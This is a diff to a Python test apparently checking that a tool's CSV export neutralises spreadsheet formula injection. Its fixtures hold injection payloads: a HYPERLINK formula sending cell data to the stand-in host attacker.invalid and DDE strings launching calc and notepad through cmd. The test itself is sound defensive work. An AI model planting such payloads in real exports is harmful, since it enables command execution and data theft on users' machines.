@@ -75,9 +75,10 @@ def test_escape_sequences_never_printed():
             remove(archive)
 
 
-def plant_job(archive, prompt, full_command):
+def plant_job(archive, prompt, full_command, job_id=None):
     with open(os.path.join(FIXTURES, "current-diffusion.json")) as f:
         job = json.load(f)
+    job["id"] = job_id or job["id"]
     job["full_command"] = full_command
     job["prompt"] = prompt
     day = os.path.join(archive, "2026", "2026-05", "2026-05-01")
@@ -90,14 +91,19 @@ def test_csv_cells_neutralised():
     archive = temp_dir()
     try:
         plant_job(archive, '=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0")
+        # The current era's prompt is its command's: one job each.
+        plant_job(archive, "", "+1+cmd|' /C calc'!A0", job_id="5aa8ca70-899b-47be-bee7-82e47d0884ff")
+        plant_job(archive, "", "-2+3+cmd|' /C notepad'!A0", job_id="5aa8ca70-899b-47be-bee7-82e47d0884fe")
         env = base_env()
         cli("reindex", "--archive", archive, env=env, check=0)
         out = cli("export", "--archive", archive, env=env, check=0).stdout
         rows = list(csv.DictReader(io.StringIO(out)))
-        assert len(rows) == 1, out
-        for column in rows[0]:
-            assert rows[0][column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, rows[0][column])
-        assert rows[0]["full_command"] == "'@SUM(1+1)*cmd|' /C calc'!A0", rows[0]
+        assert len(rows) == 3, out
+        for row in rows:
+            for column in row:
+                assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
+        cells = {cell for row in rows for cell in (row["prompt"], row["full_command"])}
+        assert {"'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", "'-2+3+cmd|' /C notepad'!A0"} <= cells, rows
     finally:
         remove(archive)
 
